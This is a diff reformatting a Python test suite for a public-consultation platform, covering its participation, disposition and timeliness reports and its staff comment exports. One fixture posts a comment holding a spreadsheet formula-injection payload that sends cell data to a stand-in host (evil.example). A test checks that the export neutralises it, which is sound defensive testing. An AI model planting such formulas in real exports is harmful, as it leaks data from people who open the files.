@@ -2,43 +2,50 @@
 against a consultation built by hand: comments with known stances,
 languages, days, places and states, answers with known decisions and dates.
 Every number of the JSON and the CSV is compared with what the data says."""
+
 import csv
 import io
 import json
 import random
 import re
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pytest
 from openpyxl import load_workbook
+from samples import DRAFT_TEXT, DRAFT_TEXT_EN
 
 from consult.consultations.parsing import parse_text
 from consult.consultations.services import ConsultationService
 from consult.feedback.models import Comment
 from consult.responses.models import Response, Version
 from consult.responses.services import ResponseService
-from samples import DRAFT_TEXT, DRAFT_TEXT_EN
 
 SLUG = "citizens-juries"
 EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
-NOW = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
+NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 
 
 def utc(day, hour, month=2):
-    return datetime(2026, month, day, hour, 0, tzinfo=timezone.utc)
+    return datetime(2026, month, day, hour, 0, tzinfo=UTC)
 
 
 # Version 2 of the draft: article 3 enlarged, article 4 added.
-V2_RU = DRAFT_TEXT.replace("от 15 до 25", "от 15 до 30") + """
+V2_RU = (
+    DRAFT_TEXT.replace("от 15 до 25", "от 15 до 30")
+    + """
 Статья 4. Вознаграждение
 
 Членам жюри выплачивается вознаграждение за каждый день работы.
 """
-V2_EN = DRAFT_TEXT_EN.replace("from 15 to 25", "from 15 to 30") + """
+)
+V2_EN = (
+    DRAFT_TEXT_EN.replace("from 15 to 25", "from 15 to 30")
+    + """
 Article 4. Remuneration
 
 Jurors are paid for every day they serve.
 """
+)
 
 PEOPLE = {
     "alice": ("alice@example.kz", "Alice", "Adams"),
@@ -62,58 +69,97 @@ COMMENTS = {
     "c9": ("3", "bob", "en", "neutral", utc(23, 8), "pending", None),
     "c10": ("3", "alice", "en", "against", utc(24, 20), "published", None),  # 25 Feb in Almaty
 }
-TEXTS = {"en": "Fifteen jurors are too few for a large region.",
-         "ru": "Пятнадцати присяжных мало для большой области.",
-         "kk": "Он бес алқабилер үлкен облыс үшін аз, өңірлер көбірек шақыруы керек."}
+TEXTS = {
+    "en": "Fifteen jurors are too few for a large region.",
+    "ru": "Пятнадцати присяжных мало для большой области.",
+    "kk": "Он бес алқабилер үлкен облыс үшін аз, өңірлер көбірек шақыруы керек.",
+}
 ACCEPTED = "The jury will be enlarged to thirty citizens in version 2."
 PARTLY = "Regions may convene larger juries; the minimum stays fifteen citizens."
 # comment: (disposition, reason, answered at (UTC), role)
 ANSWERS = {
     "c1": ("accepted", ACCEPTED, utc(20, 9), "editor"),
-    "c2": ("rejected", "A lottery with quotas is kept: it is the core of the bill.",
-           utc(27, 9), "moderator"),  # after 25 Feb: late
+    "c2": (
+        "rejected",
+        "A lottery with quotas is kept: it is the core of the bill.",
+        utc(27, 9),
+        "moderator",
+    ),  # after 25 Feb: late
     "c3": ("partly", PARTLY, utc(1, 9, month=3), "editor"),
     "c4": ("partly", PARTLY, utc(1, 9, month=3), "editor"),
-    "c5": ("out_of_scope", "Payment of jurors is set by a separate government decree.",
-           utc(1, 10, month=3), "moderator"),
-    "c7": ("rejected", "Hidden comments are answered too, but not reported publicly.",
-           utc(1, 11, month=3), "moderator"),
+    "c5": (
+        "out_of_scope",
+        "Payment of jurors is set by a separate government decree.",
+        utc(1, 10, month=3),
+        "moderator",
+    ),
+    "c7": (
+        "rejected",
+        "Hidden comments are answered too, but not reported publicly.",
+        utc(1, 11, month=3),
+        "moderator",
+    ),
 }
 
 EXPECTED_PARTICIPATION = {
-    "comments": 8, "top_level": 7, "replies": 1, "participants": 4,
+    "comments": 8,
+    "top_level": 7,
+    "replies": 1,
+    "participants": 4,
     "by_stage": {"green": 3, "white": 5},
-    "by_place": [{"place": "question-1", "comments": 3}, {"place": "article-1", "comments": 3},
-                 {"place": "article-2", "comments": 1}, {"place": "article-3", "comments": 1},
-                 {"place": "article-4", "comments": 0}],
+    "by_place": [
+        {"place": "question-1", "comments": 3},
+        {"place": "article-1", "comments": 3},
+        {"place": "article-2", "comments": 1},
+        {"place": "article-3", "comments": 1},
+        {"place": "article-4", "comments": 0},
+    ],
     "by_language": {"kk": 1, "ru": 4, "en": 3},
     "by_stance": {"for": 3, "against": 3, "neutral": 2},
-    "by_day": [{"day": "2026-02-01", "comments": 1}, {"day": "2026-02-02", "comments": 1},
-               {"day": "2026-02-05", "comments": 1}, {"day": "2026-02-21", "comments": 2},
-               {"day": "2026-02-22", "comments": 2}, {"day": "2026-02-25", "comments": 1}],
+    "by_day": [
+        {"day": "2026-02-01", "comments": 1},
+        {"day": "2026-02-02", "comments": 1},
+        {"day": "2026-02-05", "comments": 1},
+        {"day": "2026-02-21", "comments": 2},
+        {"day": "2026-02-22", "comments": 2},
+        {"day": "2026-02-25", "comments": 1},
+    ],
     "moderation": {"pending": 1, "hidden": 1, "withdrawn": 1},
     # No campaign: each of the 8 published comments is unique.
-    "campaigns": {"campaigns": 0, "campaign_comments": 0, "unique_comments": 8, "sizes": [],
-                  "min_size": 10},
+    "campaigns": {
+        "campaigns": 0,
+        "campaign_comments": 0,
+        "unique_comments": 8,
+        "sizes": [],
+        "min_size": 10,
+    },
     # Every author's address is confirmed; nobody is verified further.
-    "by_verification": {name: {"comments": 8 if name == "email" else 0, "supports": 0}
-                        for name in ("offline", "unverified", "email", "census", "staff")},
+    "by_verification": {
+        name: {"comments": 8 if name == "email" else 0, "supports": 0}
+        for name in ("offline", "unverified", "email", "census", "staff")
+    },
 }
 NO_ANSWERS = {"accepted": 0, "partly": 0, "rejected": 0, "noted": 0, "out_of_scope": 0}
 EXPECTED_DISPOSITIONS = {
     "totals": dict(NO_ANSWERS, accepted=1, rejected=1, partly=2, out_of_scope=1),
-    "by_place": {"question-1": dict(NO_ANSWERS, accepted=1, rejected=1),
-                 "article-1": dict(NO_ANSWERS, partly=2, out_of_scope=1),
-                 "article-2": NO_ANSWERS, "article-3": NO_ANSWERS, "article-4": NO_ANSWERS},
+    "by_place": {
+        "question-1": dict(NO_ANSWERS, accepted=1, rejected=1),
+        "article-1": dict(NO_ANSWERS, partly=2, out_of_scope=1),
+        "article-2": NO_ANSWERS,
+        "article-3": NO_ANSWERS,
+        "article-4": NO_ANSWERS,
+    },
 }
 ZERO = {"due": 0, "on_time": 0, "late": 0, "unanswered": 0, "overdue": 0}
 EXPECTED_TIMELINESS = {
     "total": {"due": 7, "on_time": 3, "late": 1, "unanswered": 3, "overdue": 1},
-    "by_place": {"question-1": {"due": 3, "on_time": 1, "late": 1, "unanswered": 1, "overdue": 1},
-                 "article-1": dict(ZERO, due=2, on_time=2),
-                 "article-2": dict(ZERO, due=1, unanswered=1),
-                 "article-3": dict(ZERO, due=1, unanswered=1),
-                 "article-4": ZERO},
+    "by_place": {
+        "question-1": {"due": 3, "on_time": 1, "late": 1, "unanswered": 1, "overdue": 1},
+        "article-1": dict(ZERO, due=2, on_time=2),
+        "article-2": dict(ZERO, due=1, unanswered=1),
+        "article-3": dict(ZERO, due=1, unanswered=1),
+        "article-4": ZERO,
+    },
 }
 
 
@@ -132,8 +178,11 @@ def built(database, clock, make_user, make_consultation):
         editor = principals.find_by_email("editor@example.kz")
         consultation.grant_local_role(editor.id, "editor")
         ConsultationService(root["consultations"], clock).publish_version(
-            consultation, {"ru": parse_text(V2_RU), "en": parse_text(V2_EN)},
-            {"en": "Article 3 enlarged; article 4 added."}, editor)
+            consultation,
+            {"ru": parse_text(V2_RU), "en": parse_text(V2_EN)},
+            {"en": "Article 3 enlarged; article 4 added."},
+            editor,
+        )
         draft = consultation.current_draft()
         question = consultation.stages["green"].questions[0]
         rng = random.Random(4)
@@ -147,8 +196,15 @@ def built(database, clock, make_user, make_consultation):
             else:
                 target = draft[place].target
             person = principals.get(users[author])
-            comment = Comment(target, person.id, person.public_name, TEXTS[language], stance,
-                              created, parent=consultation.comments.get(ids.get(parent)))
+            comment = Comment(
+                target,
+                person.id,
+                person.public_name,
+                TEXTS[language],
+                stance,
+                created,
+                parent=consultation.comments.get(ids.get(parent)),
+            )
             comment.language = language
             comment.stage = "green" if place == "question" else "white"
             comment.draft_version = None if place == "question" else 2
@@ -157,13 +213,29 @@ def built(database, clock, make_user, make_consultation):
         register = consultation.responses
         for name, (disposition, reason, when, role) in ANSWERS.items():
             comment = consultation.comments.get(ids[name])
-            register.add(Response(comment.id, comment.target,
-                                  Version(disposition, reason, None, "en", editor.id, role, when)))
+            register.add(
+                Response(
+                    comment.id,
+                    comment.target,
+                    Version(disposition, reason, None, "en", editor.id, role, when),
+                )
+            )
         # A revision after the deadline does not make an answer given on time late.
-        register.revise(register.get(ids["c1"]),
-                        Version("accepted", ACCEPTED + " Quotas stay.", None, "en", editor.id,
-                                "editor", utc(1, 12, month=3)),
-                        editor.id, "editor", "Added what happens to the quotas.")
+        register.revise(
+            register.get(ids["c1"]),
+            Version(
+                "accepted",
+                ACCEPTED + " Quotas stay.",
+                None,
+                "en",
+                editor.id,
+                "editor",
+                utc(1, 12, month=3),
+            ),
+            editor.id,
+            "editor",
+            "Added what happens to the quotas.",
+        )
     return ids
 
 
@@ -182,17 +254,28 @@ def test_json_numbers(app, built):
     assert about["outcome"] == {} and about["outcome_published_at"] is None
     assert report["generated_at"] == NOW.isoformat()
     assert [p["place"] for p in report["places"]] == [
-        "question-1", "article-1", "article-2", "article-3", "article-4"]
+        "question-1",
+        "article-1",
+        "article-2",
+        "article-3",
+        "article-4",
+    ]
 
     assert report["participation"] == EXPECTED_PARTICIPATION
 
     dispositions = report["dispositions"]
     assert dispositions["totals"] == EXPECTED_DISPOSITIONS["totals"]
     rows = by_place(dispositions["by_place"])
-    assert {place: row["counts"] for place, row in rows.items()} == \
-        EXPECTED_DISPOSITIONS["by_place"]
+    assert {place: row["counts"] for place, row in rows.items()} == EXPECTED_DISPOSITIONS[
+        "by_place"
+    ]
     assert {place: row["answers"] for place, row in rows.items()} == {
-        "question-1": 2, "article-1": 3, "article-2": 0, "article-3": 0, "article-4": 0}
+        "question-1": 2,
+        "article-1": 3,
+        "article-2": 0,
+        "article-3": 0,
+        "article-4": 0,
+    }
     # One reason given to two comments is listed once, with both.
     [partly, scope] = rows["article-1"]["reasons"]
     assert partly["disposition"] == "partly" and partly["reason"] == PARTLY
@@ -202,25 +285,42 @@ def test_json_numbers(app, built):
     accepted = rows["question-1"]["reasons"][0]
     assert accepted["revised"] is True and accepted["reason"].endswith("Quotas stay.")
     # The answer to the hidden comment is not in the public report.
-    assert all(built["c7"] not in reason["comments"]
-               for row in rows.values() for reason in row["reasons"])
+    assert all(
+        built["c7"] not in reason["comments"] for row in rows.values() for reason in row["reasons"]
+    )
 
     timeliness = report["timeliness"]
     assert timeliness["answer_days"] == 15
-    assert timeliness["deadlines"] == {"green": "2026-02-25T09:00:00+00:00",
-                                       "white": "2026-03-16T09:00:00+00:00"}
+    assert timeliness["deadlines"] == {
+        "green": "2026-02-25T09:00:00+00:00",
+        "white": "2026-03-16T09:00:00+00:00",
+    }
     assert timeliness["total"] == EXPECTED_TIMELINESS["total"]
-    assert {place: {k: v for k, v in row.items() if k != "place"}
-            for place, row in by_place(timeliness["by_place"]).items()} == \
-        EXPECTED_TIMELINESS["by_place"]
+    assert {
+        place: {k: v for k, v in row.items() if k != "place"}
+        for place, row in by_place(timeliness["by_place"]).items()
+    } == EXPECTED_TIMELINESS["by_place"]
 
     [first, second] = report["changes"]
-    assert first == {"version": 1, "previous_version": None, "published_at": NOW.isoformat(),
-                     "summary": {}, "articles": 3}
-    assert second == {"version": 2, "previous_version": 1, "published_at": NOW.isoformat(),
-                      "summary": {"en": "Article 3 enlarged; article 4 added."}, "articles": 4,
-                      "added": ["4"], "removed": [], "renumbered": [], "changed": ["3"],
-                      "unchanged": 2}
+    assert first == {
+        "version": 1,
+        "previous_version": None,
+        "published_at": NOW.isoformat(),
+        "summary": {},
+        "articles": 3,
+    }
+    assert second == {
+        "version": 2,
+        "previous_version": 1,
+        "published_at": NOW.isoformat(),
+        "summary": {"en": "Article 3 enlarged; article 4 added."},
+        "articles": 4,
+        "added": ["4"],
+        "removed": [],
+        "renumbered": [],
+        "changed": ["3"],
+        "unchanged": 2,
+    }
     assert report["juries"] is None
 
 
@@ -229,10 +329,12 @@ def test_json_agrees_with_the_response_register(app, database, built):
     with database() as root:
         summary = ResponseService(None, {}).summary(root["consultations"][SLUG], NOW)
     total = report["timeliness"]["total"]
-    assert summary["total"] == {"comments": total["due"],
-                                "answered": total["on_time"] + total["late"],
-                                "unanswered": total["unanswered"],
-                                "overdue": total["overdue"]}
+    assert summary["total"] == {
+        "comments": total["due"],
+        "answered": total["on_time"] + total["late"],
+        "unanswered": total["unanswered"],
+        "overdue": total["overdue"],
+    }
 
 
 def csv_cells(body):
@@ -248,13 +350,19 @@ def test_csv_numbers(app, built):
     values = {(section, item, measure): value for section, item, measure, value in rows}
     assert len(values) == len(rows), "one row per number"
 
-    expected = {("consultation", "state", ""): "closed",
-                ("consultation", "provisional", ""): "yes",
-                ("consultation", "counted_states", ""): "published"}
+    expected = {
+        ("consultation", "state", ""): "closed",
+        ("consultation", "provisional", ""): "yes",
+        ("consultation", "counted_states", ""): "published",
+    }
     for measure in ("comments", "top_level", "replies", "participants"):
         expected[("participation", "total", measure)] = EXPECTED_PARTICIPATION[measure]
-    for section, key in (("stage", "by_stage"), ("language", "by_language"),
-                         ("stance", "by_stance"), ("moderation", "moderation")):
+    for section, key in (
+        ("stage", "by_stage"),
+        ("language", "by_language"),
+        ("stance", "by_stance"),
+        ("moderation", "moderation"),
+    ):
         for item, value in EXPECTED_PARTICIPATION[key].items():
             expected[(section, item, "comments")] = value
     for row in EXPECTED_PARTICIPATION["by_place"]:
@@ -277,17 +385,22 @@ def test_csv_numbers(app, built):
     for place, counts in EXPECTED_TIMELINESS["by_place"].items():
         for measure, value in counts.items():
             expected[("timeliness", place, measure)] = value
-    expected.update({("changes", "version-1", "articles"): 3,
-                     ("changes", "version-2", "articles"): 4,
-                     ("changes", "version-2", "previous_version"): 1,
-                     ("changes", "version-2", "added"): "4",
-                     ("changes", "version-2", "removed"): "",
-                     ("changes", "version-2", "changed"): "3",
-                     ("changes", "version-2", "renumbered"): "",
-                     ("changes", "version-2", "unchanged"): 2})
+    expected.update(
+        {
+            ("changes", "version-1", "articles"): 3,
+            ("changes", "version-2", "articles"): 4,
+            ("changes", "version-2", "previous_version"): 1,
+            ("changes", "version-2", "added"): "4",
+            ("changes", "version-2", "removed"): "",
+            ("changes", "version-2", "changed"): "3",
+            ("changes", "version-2", "renumbered"): "",
+            ("changes", "version-2", "unchanged"): 2,
+        }
+    )
     audit = app.get(f"/consultations/{SLUG}/report.json").json["audit"]
-    expected.update({("audit", "head", "entries"): audit["entries"],
-                     ("audit", "head", "sha256"): audit["head"]})
+    expected.update(
+        {("audit", "head", "entries"): audit["entries"], ("audit", "head", "sha256"): audit["head"]}
+    )
     for key, value in expected.items():
         assert values.get(key) == str(value), key
     # Every number in the file is one of those checked.
@@ -311,14 +424,16 @@ def test_html_page(app, built):
     assert [td.get_text() for td in participation.find_all("td")] == ["8", "7", "1", "4"]
     assert "1 February 2026" in text and "2 February 2026" in text
     reasons = [" ".join(li.get_text().split()) for li in page.html.select(".report-reasons li")]
-    assert reasons[2] == ("Partly accepted — the Editor, 1 March 2026, 14:00; comments "
-                          "answered: 2 " + PARTLY)
+    assert reasons[2] == (
+        "Partly accepted — the Editor, 1 March 2026, 14:00; comments answered: 2 " + PARTLY
+    )
     assert "Articles added 4" in text and "Articles changed 3" in text
     assert not EMAIL.findall(page.text)
     assert "Erlan" not in text and "Adams" not in text
     hrefs = {a["href"] for a in page.html.select(".report-downloads a")}
-    assert {f"http://localhost/consultations/{SLUG}/report.{kind}"
-            for kind in ("csv", "json", "pdf")} == hrefs
+    assert {
+        f"http://localhost/consultations/{SLUG}/report.{kind}" for kind in ("csv", "json", "pdf")
+    } == hrefs
     # The consultation page links to it.
     link = app.get(f"/consultations/{SLUG}").html.select_one(".report-link a")
     assert link["href"].endswith(f"/consultations/{SLUG}/report")
@@ -335,7 +450,8 @@ def test_not_before_the_stages_close(app, make_consultation):
 def test_final_once_the_outcome_is_published(app, database, clock, built):
     with database() as root:
         ConsultationService(root["consultations"], clock).publish_outcome(
-            root["consultations"][SLUG], {"en": "Juries will be convened from 2027."})
+            root["consultations"][SLUG], {"en": "Juries will be convened from 2027."}
+        )
     report = app.get(f"/consultations/{SLUG}/report.json").json
     assert report["consultation"]["provisional"] is False
     assert report["consultation"]["state"] == "outcome"
@@ -373,18 +489,26 @@ def test_pdf(app, built, monkeypatch):
     assert [td.get_text() for td in participation.find_all("td")] == ["8", "7", "1", "4"]
     timeliness = soup.find("caption", string=re.compile("^Answers to published")).parent
     assert [td.get_text() for td in timeliness.find("tfoot").find_all("td")] == [
-        "7", "3", "1", "3", "1"]
+        "7",
+        "3",
+        "1",
+        "3",
+        "1",
+    ]
 
 
 # -- the staff export ---------------------------------------------------------------
+
 
 @pytest.fixture
 def staff(built, browser):
     return browser("editor@example.kz")
 
 
-EXPORTS = (f"/consultations/{SLUG}/export-comments.csv",
-           f"/consultations/{SLUG}/export-comments.xlsx")
+EXPORTS = (
+    f"/consultations/{SLUG}/export-comments.csv",
+    f"/consultations/{SLUG}/export-comments.xlsx",
+)
 
 
 def test_export_is_for_staff_only(built, browser, make_user):
@@ -407,12 +531,31 @@ def test_export_csv(staff, built, database):
     assert response.content_type == "text/csv" and response.charset == "utf-8"
     assert f'filename="{SLUG}-comments.csv"' in response.headers["Content-Disposition"]
     [header, *rows] = csv_cells(response.body)
-    assert header == ["comment_id", "author_pseudonym", "author_name", "created", "stage",
-                      "target", "target_label", "article", "paragraph", "draft_version",
-                      "parent_id", "stance", "language", "state", "supports", "text",
-                      "disposition", "answer", "answer_translation", "answered_at",
-                      "answered_by_role", "revised"]
-    records = {int(row[0]): dict(zip(header, row)) for row in rows}
+    assert header == [
+        "comment_id",
+        "author_pseudonym",
+        "author_name",
+        "created",
+        "stage",
+        "target",
+        "target_label",
+        "article",
+        "paragraph",
+        "draft_version",
+        "parent_id",
+        "stance",
+        "language",
+        "state",
+        "supports",
+        "text",
+        "disposition",
+        "answer",
+        "answer_translation",
+        "answered_at",
+        "answered_by_role",
+        "revised",
+    ]
+    records = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
     assert set(records) == set(built.values()), "every comment, whatever its state"
     # Place by place, each thread in time order with replies after their comment.
     order = [int(row[0]) for row in rows]
@@ -424,9 +567,17 @@ def test_export_csv(staff, built, database):
     assert c1["author_name"] == "Alice A."
     assert c1["created"] == "2026-02-01T15:00:00+05:00"
     assert (c1["stage"], c1["target_label"], c1["stance"], c1["state"]) == (
-        "green", "Question to the public", "for", "published")
+        "green",
+        "Question to the public",
+        "for",
+        "published",
+    )
     assert (c1["disposition"], c1["answered_at"], c1["answered_by_role"], c1["revised"]) == (
-        "accepted", "2026-02-20T14:00:00+05:00", "editor", "yes")
+        "accepted",
+        "2026-02-20T14:00:00+05:00",
+        "editor",
+        "yes",
+    )
     assert c1["answer"].endswith("Quotas stay.")
     # One pseudonym per person, different for different people.
     alice = {records[built[name]]["author_pseudonym"] for name in ("c1", "c3", "c10")}
@@ -434,7 +585,11 @@ def test_export_csv(staff, built, database):
 
     c6 = records[built["c6"]]
     assert (c6["target_label"], c6["article"], c6["paragraph"], c6["draft_version"]) == (
-        "Article 2, paragraph 1", "2", "1", "2")
+        "Article 2, paragraph 1",
+        "2",
+        "1",
+        "2",
+    )
     assert c6["text"] == TEXTS["ru"], "Cyrillic intact"
     assert records[built["c4"]]["text"] == TEXTS["kk"]
     assert (c6["disposition"], c6["answer"], c6["revised"]) == ("", "", "")
@@ -453,9 +608,15 @@ def post_formula(database, built):
     with database() as root:
         consultation = root["consultations"][SLUG]
         parent = consultation.comments.get(built["c1"])
-        comment = Comment(parent.target, parent.author, parent.author_name,
-                          '=HYPERLINK("http://evil.example/?"&A1,"Click")', "for",
-                          utc(2, 10), parent=parent)
+        comment = Comment(
+            parent.target,
+            parent.author,
+            parent.author_name,
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "for",
+            utc(2, 10),
+            parent=parent,
+        )
         comment.stage = "green"
         return consultation.comments.add(comment, rng=random.Random(9)).id
 
@@ -464,7 +625,7 @@ def test_export_defuses_formulas(staff, built, database):
     formula_id = post_formula(database, built)
     rows = csv_cells(staff.get(EXPORTS[0]).body)
     [row] = [row for row in rows if row[0] == str(formula_id)]
-    assert row[15] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row[15] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
     sheet = load_workbook(io.BytesIO(staff.get(EXPORTS[1]).body)).active
     [cell] = [r[15] for r in sheet.iter_rows(min_row=2) if r[0].value == str(formula_id)]
@@ -474,13 +635,14 @@ def test_export_defuses_formulas(staff, built, database):
 def test_export_xlsx(staff, built):
     response = staff.get(EXPORTS[1])
     assert response.content_type == (
-        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
     sheet = load_workbook(io.BytesIO(response.body)).active
     [header, *rows] = [[cell.value for cell in row] for row in sheet.iter_rows()]
     csv_header, *csv_rows = csv_cells(staff.get(EXPORTS[0]).body)
     assert header == csv_header
     assert len(rows) == len(csv_rows) == len(built)
-    by_id = {row[0]: dict(zip(header, row)) for row in rows}
+    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
     c6 = by_id[str(built["c6"])]
     assert c6["text"] == TEXTS["ru"] and c6["draft_version"] == 2 and c6["supports"] == 0
     assert by_id[str(built["c1"])]["revised"] == "yes"
